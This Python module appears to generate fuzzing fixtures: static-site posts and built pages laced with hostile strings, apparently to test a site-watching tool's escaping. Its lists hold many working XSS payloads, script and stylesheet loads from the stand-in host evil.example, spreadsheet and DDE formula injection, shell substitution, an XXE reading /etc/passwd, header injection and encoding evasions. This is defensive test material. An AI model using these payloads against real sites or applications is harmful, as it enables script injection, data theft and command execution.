"""Texts that try to become markup, addresses or formulas, as many as are wanted, and sites that hold them wherever a site can say something."""
import html
import json
import random
import urllib.parse

SEED = 11
GENERATORS = ["markdown", "jekyll", "hugo", "eleventy"]
SITES = 3 * len(GENERATORS)
# Every so manieth publication has in its lists what those behind it have, so that one page shows the texts of all of these.
IN_A_LIST = 10
ADDRESSES_OF_ONE = 5

ELEMENTS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)", "<img \"\"\"><script>alert(1)</script>\">", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><rect width=9 height=9 /></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>", "<embed src=data:text/html,<script>alert(1)</script>>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<p style=\"background:url(javascript:alert(1))\">x",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x",
    "<input type=image src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a id=search><a id=search name=q>", "<details open ontoggle=alert(1)>x", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<html onclick=alert(1)>", "<head><script>alert(1)</script>", "<frameset onload=alert(1)>", "<marquee onstart=alert(1)>x",
    "<table background=javascript:alert(1)>", "<select><option><script>alert(1)</script>", "<textarea autofocus onfocus=alert(1)>", "<plaintext>",
    "<template><script>alert(1)</script></template>", "<slot name=x onslotchange=alert(1)>", "<dialog open onclose=alert(1)>",
    "<mark onmouseover=alert(1)>x</mark>", "<x onclick=alert(1) tabindex=0>x", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php alert(1) ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<//><img src=x onerror=alert(1)>", "<<script>alert(1)//<</script>",
    "< script>alert(1)</script>", "</br style=x:y onclick=alert(1)>", "<b/onclick='alert(1)'>x",
    "<veille-search server=javascript:alert(1)></veille-search>", "<script type=module src=//evil.example></script>", "<iframe/onload=alert(1)>",
    "<a\xa0href=javascript:alert(1)>x",
]
# What ends the place that a text stands in, before its element begins.
ENDS = [
    "", "", "\">", "'>", "\"/>", "</script>", "</title>", "</textarea>", "</style>", "</mark></p>", "-->", "]]>", "</noscript>", "</a></li></ul>",
    "</option></select>", "</svg>", "\\\">", "\\u0022>", "`>", "?>", "%>", "</h2></article>", "\" x=", "' x=", "\r\n\r\n", "\x00\">", "\x0b", "&quot;>",
    "&#39;>", "{{/results}}", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus x='", " onclick=alert(1) ", "\" style=\"x:expression(alert(1))",
    "\"><!--",
]
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript://evil.example/%0aalert(1)",
    "javascript://evil.example/\nalert(1)", "JAVASCRIPT://%0aalert(1)//report.pdf", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data://text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "vbscript://x/\nmsgbox(1)",
    "livescript:alert(1)", "blob:https://evil.example/1", "blob://evil.example/1", "file:///etc/passwd", "ftp://evil.example/x.pdf",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:http://evil.example!/x", "//evil.example/x", "///evil.example",
    "\\\\evil.example\\x", "/\\evil.example", "https:javascript:alert(1)", "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/'onmouseover='alert(1)", "https://evil.example/><script>alert(1)</script>", "https://user:pass@evil.example/",
    "https://evil.example\\@good.example/", "\u2028javascript:alert(1)", "javascript\uff1aalert(1)", "%6aavascript:alert(1)", "javascript%3aalert(1)",
    "x://y", "../../../x", "#\"><img src=x onerror=alert(1)>", "?\"><svg onload=alert(1)>", "mailto:a@evil.example?body=<script>", "tel:1", "about:blank",
    "intent://x#Intent;end", "ws://evil.example", "http://[::1]:bad/", "https://", "http:///x.pdf", "https://evil.example/x.pdf\" onclick=\"alert(1)",
]
# Templates, formulas, letters that look like others or are none, entities, lines of other formats. Single surrogates are bytes that are no
# UTF-8.
OTHERS = [
    "{{query}}", "{{{content}}}", "{{#results}}{{title}}", "{{>box}}", "{{=<% %>=}}", "{{/results}}", "{{^hits}}", "{{! x", "}}}", "<%= 7*7 %>",
    "${alert(1)}", "{% raw %}", "[[${7*7}]]", "#{7*7}", "{7*7}", "{n}", "{date}", "{row}{column}{total}", "{text}{typed}{title}", "%s%n%x",
    "$(id)", "`id`", "=cmd|'/c calc'!A1", "+1+2", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"//evil.example\",\"x\")", "\"=1+1", "'=1+1", " =1+1", ";=1+1", ",=1+1", "\uff1d1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u202e<script>alert(1)</script>\u202c", "\u2066\u2067<img src=x onerror=alert(1)>\u2069", "\u200b<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u017fcript>alert(1)</\u017fcript>", "<\u0130mg src=x onerror=alert(1)>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64img src=x onerror=alert(1)\ufe65", "\u2039script\u203a", "\ufffe\uffff<script>alert(1)</script>", "\ufdd0\U0001ffff",
    "\x85\u2028\u2029<img src=x onerror=alert(1)>", "\x7f\x1b[31m", "e\u0301<\u0338script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+AD0-1",
    "\udcc0\udcbcscript\udcc0\udcbe", "\udce3\"><img src=x onerror=alert(1)>", "\udcf0\udc9f<svg onload=alert(1)>", "\udced\udca0\udc80\">",
    "\udcff\udcfe<\x00s\x00c\x00", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;svg onload=alert(1)&#x3e;", "&LT;img src=x onerror=alert(1)&GT;", "&lt&#59;script&gt&#59;",
    "TY  - BLOG\r\nUR  - javascript:alert(1)", "@online{x, url = {javascript:alert(1)}}", "\\write18{id}", "]]></title></entry><entry>", "\x1e\x1f\x02",
    "\r\nSet-Cookie: a=b", "\r\n\r\n<script>alert(1)</script>",
]


def entities(text):
    return "".join(f"&#{ord(c)};" for c in text)


def spellings():
    """Ways to write a text so that it may be taken for harmless before it becomes itself again. Most stay as they are."""
    wide = str.maketrans({c: chr(ord(c) + 0xFEE0) for c in "<>\"'=/:()"})
    quoted = lambda text: urllib.parse.quote(text, errors="surrogateescape")
    return [lambda text: text] * 8 + [
        str.upper, html.escape, lambda text: html.escape(html.escape(text)), entities, lambda text: entities(text).replace(";", ""),
        lambda text: "".join(f"&#x{ord(c):06x};" for c in text), quoted, lambda text: quoted(quoted(text)), lambda text: text.translate(wide),
        lambda text: text.replace("<", "<\u200b"), lambda text: text.replace("<", "<\x00"), lambda text: text.replace("ri", "r\ti"),
        lambda text: text.replace(" ", "/"),
        lambda text: "".join(f"\\u{ord(c):04x}" for c in text), lambda text: text.encode("utf-7", "ignore").decode("ascii"), lambda text: "\u202e" + text[::-1],
        lambda text: text.replace("<", "\udcc0\udcbc").replace(">", "\udcc0\udcbe"), lambda text: "\udce2\udc82" + text]


def texts(count):
    """So many different ones, the same each time: first those above, then mixtures. Each ends in a word of its own, q and four digits."""
    chance = random.Random(SEED)
    ways = spellings()
    out = dict.fromkeys(ELEMENTS + OTHERS + ADDRESSES)
    chosen = list(out)
    chance.shuffle(chosen)
    out = dict.fromkeys(chosen[:count])
    while len(out) < count:
        kind = chance.choice((ELEMENTS, ELEMENTS, OTHERS, ADDRESSES))
        text = chance.choice(ways)(chance.choice(ENDS) + chance.choice(kind))
        if len(text.encode("utf-8", "surrogateescape")) < 400:
            out[text] = None
    return [f"{text} {word_of(number)}" for number, text in enumerate(out)]


def word_of(number):
    return f"q{number:04}"


def addresses(number, text):
    start = number * ADDRESSES_OF_ONE
    return [ADDRESSES[(start + n) % len(ADDRESSES)] for n in range(ADDRESSES_OF_ONE)] + [text.rpartition(" ")[0]]


def front_matter(number, all_texts):
    text = all_texts[number]
    near = [all_texts[(number + n) % len(all_texts)] for n in range(IN_A_LIST)] if number % IN_A_LIST == 0 else [text]
    led = addresses(number, text)
    out = {"title": text, "description": text, "date": f"20{10 + number % 15}-0{1 + number % 9}-1{number % 9}", "tags": near, "authors": near,
           "countries": ["CA", text], "aliases": led, "redirect_from": led, "image": led[0], "external_url": led[1], "slug": text, "category": text}
    if number % 3 == 0:
        out |= {"permalink": led[2], "url": led[2]}
    return out | {"lang": text if number % 7 == 0 else "en"}


def markdown(number, all_texts):
    text, led = all_texts[number], addresses(number, all_texts[number])
    links = f"[{text}](report{number}.txt) " + " ".join(f"[{text}](<{to}>) [report]({to}) ![image]({to}) <{to}>" for to in led)
    words = " ".join(f"word{number * 31 + n}" for n in range(30))
    front = json.dumps(front_matter(number, all_texts), ensure_ascii=False)
    return (f"---\n{front}\n---\n\nHostile words {text} and hostile words\n\n## Hostile {html.escape(text)}\n\n"
            f"`{text}` hostile {links}\n\nAbout Italy and {text}. {html.escape(text)} hostile {words}\n")


def built_page(number, all_texts):
    text, led = html.escape(all_texts[number]), [html.escape(to) for to in addresses(number, all_texts[number])]
    return (f"<!doctype html><html lang=en><head><title>{text}</title><meta name=description content=\"{text}\"><meta name=author content=\"{text}\">"
            f"<meta property=\"og:site_name\" content=\"{text}\"><meta property=\"article:tag\" content=\"{text}\"><link rel=canonical href=\"{led[0]}\">"
            f"<link rel=alternate hreflang=fr href=\"{led[1]}\"></head><body><main><h1>{text}</h1><p>Hostile words {text} <a href=\"{led[2]}\">{text}</a></p>"
            f"<p>hostile {all_texts[number]}</p></main></body></html>")


def file_name(number, text):
    kept = text.replace("/", "\u2215").replace("\x00", "").strip().encode("utf-8", "surrogateescape")[:150].decode("utf-8", "surrogateescape")
    return f"{kept} {number}" if kept else str(number)


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode("utf-8", "surrogateescape"))


def write_sites(folder, all_texts):
    """Sites of all generators, the texts spread over them, and one of built pages with some; returns the configuration."""
    below = {"markdown": "", "jekyll": "_posts", "hugo": "content/posts", "eleventy": "posts"}
    lines = ["sources:"]
    for site in range(SITES):
        generator = GENERATORS[site % len(GENERATORS)]
        lines += [f"  - id: site{site}", f"    title: {json.dumps(ELEMENTS[site * 5] + OTHERS[site])}", f"    folder: site{site}",
                  f"    url: https://site{site}.example", f"    generator: {generator}"]
        for number in range(site, len(all_texts), SITES):
            dated = "2020-01-02-" if generator == "jekyll" else ""
            write(folder / f"site{site}" / below[generator] / f"{dated}{file_name(number, all_texts[number])}.md", markdown(number, all_texts))
            if number % IN_A_LIST == 0:
                report = f"Hostile report {all_texts[number]}\n\n{markdown(number, all_texts)}"
                write(folder / f"site{site}" / below[generator] / f"report{number}.txt", report)
    lines += ["  - id: built", "    folder: built", "    url: https://built.example", "    generator: html"]
    for number in range(0, len(all_texts), IN_A_LIST):
        write(folder / "built" / f"text{number}" / "index.html", built_page(number, all_texts))
    write(folder / "built" / "index.html", built_page(0, all_texts))
    write(folder / "veille.yaml", "\n".join(lines) + "\n")
    return folder / "veille.yaml"
